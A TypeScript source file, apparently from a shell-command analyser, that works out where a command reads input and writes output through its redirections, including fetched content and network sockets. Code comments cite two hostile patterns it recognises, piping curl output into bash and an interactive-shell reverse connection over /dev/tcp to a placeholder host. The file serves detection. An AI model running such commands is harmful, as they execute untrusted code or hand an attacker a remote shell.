import type { Command } from './commands-read.ts';
import { expand } from './expand.ts';
import { FETCHED, isTold } from './placeholders.ts';
import { socketAddress } from './sockets.ts';
import type { Flow, Place, Walker } from './walker.ts';

/** What a command reads and where it writes to by its redirections. `exec N<PATH` opens a descriptor for what follows. */
export function redirected(
  walker: Walker,
  { redirects, words }: Extract<Command, { kind: 'run' }>,
  place: Place,
  piped: Flow | null,
): { input: Flow | null; outputs: readonly string[] } {
  let input = piped;
  const outputs: string[] = [];
  const [first] = words;
  const opens =
    words.length === 1 && first?.parts.length === 1 && first.parts[0]?.kind === 'text'
      ? first.parts[0].text === 'exec'
      : false;
  for (const { operator, descriptor, target } of redirects) {
    const [text = ''] = expand(walker, target, place);
    if (operator === '<<' || operator === '<<<') {
      input = { kind: 'text', text, decoded: place.decoded };
      continue;
    }
    // `bash < <(curl …)`
    if (operator === '<' && text.includes(FETCHED)) {
      input = { kind: 'fetched', from: walker.lastFetched };
      continue;
    }
    if (operator === '<&') {
      input = walker.descriptors.get(text) ?? input;
      continue;
    }
    const socket = socketAddress(text);
    const flow: Flow =
      socket === undefined ? { kind: 'file', path: text } : { kind: 'fetched', from: socket };
    if (opens && descriptor !== '' && operator !== '>') walker.descriptors.set(descriptor, flow);
    if (socket !== undefined) {
      walker.lastFetched = socket;
      // `sh -i >& /dev/tcp/HOST/PORT 0>&1`: it reads there too.
      if (operator !== '>' || input === null) input = flow;
    } else if (operator === '>') {
      if (isTold(text)) outputs.push(text);
    } else if (descriptor === '' || descriptor === '0') input = flow;
  }
  return { input, outputs };
}
